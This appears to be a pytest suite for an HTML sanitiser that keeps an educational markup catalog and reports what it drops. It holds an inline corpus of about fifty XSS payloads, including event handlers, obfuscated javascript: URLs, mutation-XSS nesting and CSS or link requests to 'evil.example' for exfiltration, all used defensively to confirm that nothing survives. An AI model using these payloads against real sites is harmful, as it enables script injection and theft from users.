"""The sanitiser keeps catalog markup intact and lets nothing executable through."""

from html.parser import HTMLParser

import pytest

from genui.markup import sanitizer
from genui.markup.catalog import allowed_attributes, attribute_value_error, catalog
from genui.markup.sanitizer import markup_sanitize

X = "__xss.push(1)"
ATTACKS = [
    f"<script>{X}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"<img src=x onerror={X}>",
    f"<svg onload={X}>",
    f"<svg><script>{X}</script></svg>",
    f'<svg><a xlink:href="javascript:{X}"><text>x</text></a></svg>',
    f"<svg><animate onbegin={X} attributeName=x dur=1s>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{X}">',
    f'<math href="javascript:{X}">x</math>',
    f'<iframe src="javascript:{X}"></iframe>',
    f'<iframe srcdoc="<script>parent.{X}</script>"></iframe>',
    f'<object data="javascript:{X}"></object>',
    f'<embed src="data:text/html,<script>{X}</script>">',
    f'<a href="javascript:{X}">click</a>',
    f'<a href="jav&#x09;ascript:{X}">tab-encoded</a>',
    f'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:{X}">entities</a>',
    f'<a href="  JaVaScRiPt:{X}">case</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5fX3hzcy5wdXNoKDEpPC9zY3JpcHQ+">data</a>',
    f'<a href="vbscript:{X}">vb</a>',
    f'<form action="javascript:{X}"><button>go</button></form>',
    f'<button formaction="javascript:{X}">go</button>',
    f'<input autofocus onfocus="{X}">',
    f'<details open ontoggle="{X}">',
    f'<body onload="{X}">',
    f'<video><source onerror="{X}"></video>',
    f'<audio src=x onerror="{X}">',
    f'<div style="background:url(javascript:{X})">css</div>',
    '<div style="background-image:url(https://evil.example/leak)">css exfiltration</div>',
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>cl-sphere{background:url(https://evil.example/?leak)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    f'<cl-sphere radius="1" onclick="{X}"></cl-sphere>',
    f'<cl-sphere color="javascript:{X}"></cl-sphere>',
    '<cl-sphere color="red" style="background:url(https://evil.example)"></cl-sphere>',
    f'<cl-readout label="x" expr="constructor.constructor(\'{X}\')()"></cl-readout>',
    '<cl-readout label="x" expr="alert(1)"></cl-readout>',
    f'<cl-sphere radius="1"" onmouseover="{X}"></cl-sphere>',
    f"<cl-sphere radius=1 /onmouseover={X}></cl-sphere>",
    f'<cl-label text="a"><img src=x onerror={X}></cl-label>',
    f'<noscript><p title="</noscript><img src=x onerror={X}>"></noscript>',
    f"<template><img src=x onerror={X}></template>",
    f"<!--<img src=x onerror={X}>-->",
    f"<![CDATA[<img src=x onerror={X}>]]>",
    f'<p><span lang="en" onclick="{X}">hi</span></p>',
    f'<xmp><img src=x onerror="{X}"></xmp>',
    f'<textarea><img src=x onerror="{X}"></textarea>',
    f"<isindex type=image src=1 onerror={X}>",
    f'<marquee onstart="{X}">x</marquee>',
    f'<cl-section heading="x"><p>ok</p><script>{X}</script></cl-section>',
    '<a href="https://evil.example" ping="https://evil.example/ping">ping</a>',
    '<img srcset="https://evil.example/1x.png 1x">',
]


class _Survivors(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        specs = allowed_attributes(tag)
        if not specs and tag not in catalog()["text_elements"]:
            self.found.append(f"element {tag}")
        for name, value in attrs:
            if name not in specs or attribute_value_error(specs[name], value or ""):
                self.found.append(f"attribute {tag} {name}={value!r}")

    def handle_comment(self, data):
        self.found.append("comment")


def test_the_attack_corpus_is_large():
    assert len(ATTACKS) >= 40


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_nothing_outside_the_catalog_survives(attack):
    result = markup_sanitize(attack)

    survivors = _Survivors()
    survivors.feed(result.markup)
    assert survivors.found == []
    lowered = result.markup.lower()
    for needle in (
        "<script",
        "javascript:",
        "vbscript:",
        "url(",
        "<iframe",
        "<svg",
        "<img",
        "href",
    ):
        assert needle not in lowered
    assert not result.clean, "every attack must be reported as dropped"


@pytest.mark.browser
def test_no_attack_executes_in_a_real_browser(browser):
    page = browser.new_page()
    sanitized = "\n".join(markup_sanitize(attack).markup for attack in ATTACKS)
    page.set_content(f"<script>window.__xss = [];</script>{sanitized}")
    page.wait_for_timeout(500)
    for element in page.query_selector_all("*"):
        element.dispatch_event("click")
        element.dispatch_event("mouseover")
    page.wait_for_timeout(200)
    assert page.evaluate("window.__xss.length") == 0
    page.close()


def test_catalog_markup_passes_unchanged_and_is_clean():
    markup = (
        '<cl-lesson title="Eclipse" lang="en" subject="astronomy" grade="middle">'
        '<cl-scene camera="0 6 14">'
        '<cl-sphere id="sun" radius="2" color="#ffcc33" emissive="#ffaa00">'
        '</cl-sphere></cl-scene><cl-section heading="Why"><p>The <strong>Moon</strong> '
        "passes between.</p></cl-section></cl-lesson>"
    )
    result = markup_sanitize(markup)
    assert result.clean, result.report()
    assert result.markup == markup


def test_a_quiz_keeps_its_keep_order_setting_and_nothing_else_takes_it():
    quiz = (
        '<cl-quiz keep-order><cl-question id="q1" prompt="Why?">'
        '<cl-choice correct="">A</cl-choice><cl-choice>B</cl-choice></cl-question></cl-quiz>'
    )
    kept = markup_sanitize(quiz)
    assert kept.clean, kept.report()
    assert kept.markup.startswith('<cl-quiz keep-order="">')
    assert markup_sanitize('<cl-quiz keep-order="false"></cl-quiz>').clean

    wrong = markup_sanitize(
        '<cl-quiz keep-order="sometimes"><cl-question keep-order prompt="Why?"></cl-question>'
        "</cl-quiz>"
    )
    assert "keep-order" not in wrong.markup
    assert [str(item) for item in wrong.dropped] == [
        "value <cl-quiz keep-order>: 'sometimes' not true/false",
        "attribute <cl-question keep-order>: not allowed on this element",
    ]


def test_markup_inside_a_text_attribute_stays_inert_text():
    result = markup_sanitize(f'<cl-sphere id="x" name="<script>{X}</script>"></cl-sphere>')
    assert result.clean
    assert "<script" not in result.markup
    assert "&lt;script&gt;" in result.markup


def test_what_was_dropped_is_reported_by_name():
    result = markup_sanitize(
        '<cl-sphere radius="-5" wobble="1" onclick="x()"></cl-sphere><marquee>hi</marquee>'
    )
    report = "\n".join(result.report()["dropped"])
    assert "value <cl-sphere radius>" in report and "below the minimum" in report
    assert "attribute <cl-sphere wobble>" in report
    assert "attribute <cl-sphere onclick>" in report
    assert "element <marquee>" in report
    assert result.markup == "<cl-sphere></cl-sphere>hi"


def test_every_catalog_example_is_clean():
    for tag, element in catalog()["elements"].items():
        result = markup_sanitize(element["example"])
        assert result.clean, (tag, result.report())


def test_each_dropped_item_says_where_it_is_in_the_input():
    markup = (
        '<cl-lesson title="Tides" lang="en">\n'
        '  <cl-section heading="Why"\n'
        '      onclick="x()">\n'
        "<p>Hi</p><script>alert(1)</script><!-- note -->\n"
        '    <cl-sphere radius="-5"></cl-sphere><MARQUEE>hi</MARQUEE>\n'
        "</cl-section></cl-lesson>"
    )
    found = [
        (d.kind, d.attribute or d.element, d.line, d.column)
        for d in markup_sanitize(markup).dropped
    ]
    assert found == [
        ("attribute", "onclick", 3, 7),
        ("element", "script", 4, 10),
        ("comment", "!--", 4, 35),
        ("value", "radius", 5, 16),
        ("element", "marquee", 5, 40),
    ]


def test_an_attribute_is_found_by_name_not_inside_another_value():
    result = markup_sanitize('<cl-sphere name="onclick here" onclick="x()"></cl-sphere>')
    (dropped,) = result.dropped
    assert (dropped.attribute, dropped.line, dropped.column) == ("onclick", 1, 32)
    assert dropped.as_dict() | {"message": ""} == {
        "kind": "attribute",
        "element": "cl-sphere",
        "attribute": "onclick",
        "reason": "not allowed on this element",
        "line": 1,
        "column": 32,
        "message": "",
    }
    assert str(dropped) == "attribute <cl-sphere onclick>: not allowed on this element"


def test_a_tag_with_a_nul_in_its_name_is_reported_as_dropped():
    """html5ever reads `<scr\\x00ipt>` as a tag (its NUL is U+FFFD) and drops it; the report
    says so, as for any other tag outside the catalog."""
    result = markup_sanitize(f"<p>x<scr\x00ipt>{X}</scr\x00ipt></p>")

    assert "<scr" not in result.markup and not result.clean
    assert [(d.kind, d.element) for d in result.dropped] == [("element", "scr\ufffdipt")]


def test_each_attribute_value_is_checked_once(monkeypatch):
    checked = []

    def counted(spec, value):
        checked.append(value)
        return attribute_value_error(spec, value)

    monkeypatch.setattr(sanitizer, "attribute_value_error", counted)
    markup_sanitize('<cl-sphere id="a" radius="2" position="0 1 2"></cl-sphere>')

    assert sorted(checked) == ["0 1 2", "2", "a"]
